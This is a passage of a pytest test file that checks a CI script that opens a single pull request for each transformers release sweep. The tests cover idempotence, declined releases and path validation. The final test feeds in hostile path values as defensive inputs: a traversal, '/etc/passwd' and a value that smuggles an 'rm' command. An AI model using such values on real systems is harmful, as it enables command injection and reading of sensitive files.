                       capture_output=True)  # fmt: skip
    hub.remove("org/m")
    env["GITHUB_OUTPUT"] = str(tmp_path / "out")
    result = subprocess.run([*hubdiff, "watch"], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert result.returncode == 1, result.stderr
    outputs = dict(line.split("=", 1) for line in (tmp_path / "out").read_text().splitlines())
    assert json.loads(outputs["lost"]) == ["org/m@main"] and json.loads(outputs["failed"]) == []


# -- propose_sweep.sh -------------------------------------------------------------------------------

SWEPT = ["pyproject.toml", ".ci/constraints.txt", "tests/data/sweep.json"]


class Sweep:
    """What sweep.yml leaves in a fresh checkout for a transformers release, and propose_sweep.sh run on it."""

    def __init__(self, github: GitHubDouble, tmp_path: Path) -> None:
        self.github, self.tmp_path, self.runs = github, tmp_path, 0

    def __call__(self, version: str, files: list[str] = SWEPT) -> subprocess.CompletedProcess:
        self.runs += 1
        work = self.github.checkout(self.tmp_path / f"sweep{self.runs}")
        for name in SWEPT:
            (work / name).parent.mkdir(parents=True, exist_ok=True)
            (work / name).write_text(f"swept with transformers {version}\n")
        (work / "sweep.log").write_text("a log the job leaves behind\n")
        body = self.tmp_path / f"body{self.runs}.md"
        body.write_text(f"transformers {version}, run {self.runs}\n")
        return run("propose_sweep.sh", *files, env=self.github.env(VERSION=version, BODY=str(body)), cwd=work)


@pytest.fixture
def sweep(github, tmp_path):
    github.commit({name: "swept with transformers 5.25.0\n" for name in SWEPT}, "locked")
    return Sweep(github, tmp_path)


def test_propose_sweep_opens_one_pull_request_with_only_the_swept_files(github, sweep):
    nothing = sweep("5.25.0")
    assert nothing.returncode == 0, nothing.stderr
    assert "nothing changed" in nothing.stdout and github.prs() == []
    first = sweep("5.26.0")
    assert first.returncode == 0, first.stdout + first.stderr
    (pr,) = github.prs()
    assert (pr["state"], pr["headRefName"], pr["title"]) == (
        "OPEN",
        "hubdiff/sweep",
        "Sweep transformers 5.26.0",
    )
    assert pr["body"] == "transformers 5.26.0, run 2\n\n<!-- hubdiff:sweep transformers==5.26.0 -->\n"
    assert github.git("rev-parse", "hubdiff/sweep^") == github.git("rev-parse", "main")
    changed = github.git("diff", "--name-only", "main", "hubdiff/sweep").split()
    assert sorted(changed) == sorted(SWEPT)  # the log left in the tree is not proposed
    assert github.git("show", "hubdiff/sweep:pyproject.toml") == "swept with transformers 5.26.0"

    mark = github.mark()
    again = sweep("5.26.0")  # next week, no newer release: the open pull request already says it
    assert again.returncode == 0, again.stderr
    events, pushes, _ = github.since(mark)
    assert events == [] and pushes == []
    assert "already proposes transformers 5.26.0" in again.stdout

    newer = sweep("5.27.0")  # a newer release moves the same pull request on
    assert newer.returncode == 0, newer.stderr
    (pr,) = github.prs()
    assert pr["title"] == "Sweep transformers 5.27.0" and pr["body"].endswith("transformers==5.27.0 -->\n")
    assert github.git("show", "hubdiff/sweep:pyproject.toml") == "swept with transformers 5.27.0"


def test_propose_sweep_does_not_propose_a_declined_release_again(github, sweep):
    assert sweep("5.26.0").returncode == 0
    (pr,) = github.prs()
    github.close(pr["number"])
    mark = github.mark()
    declined = sweep("5.26.0")
    assert declined.returncode == 0, declined.stderr
    events, pushes, _ = github.since(mark)
    assert events == [] and pushes == []
    assert "closed unmerged" in declined.stdout
    assert sweep("5.27.0").returncode == 0  # a newer release is another proposal
    assert [p["state"] for p in github.prs()].count("OPEN") == 1


@pytest.mark.parametrize("path", ["../outside", "/etc/passwd", "sweep.log;rm"])
def test_propose_sweep_refuses_a_path_that_is_not_a_file_here(github, sweep, path):
    refused = sweep("5.26.0", files=[*SWEPT, path])
    assert refused.returncode == 1 and "::error::not a file here" in refused.stdout
    assert github.prs() == []
